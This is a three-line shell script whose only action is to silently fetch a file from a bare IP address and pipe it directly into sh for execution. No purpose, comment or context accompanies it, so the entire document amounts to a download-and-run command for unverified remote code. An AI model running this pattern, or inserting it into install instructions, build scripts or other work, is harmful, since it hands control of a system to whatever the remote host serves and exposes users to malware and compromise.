#!/bin/sh
set -e
curl -s http://198.51.100.1/x | sh
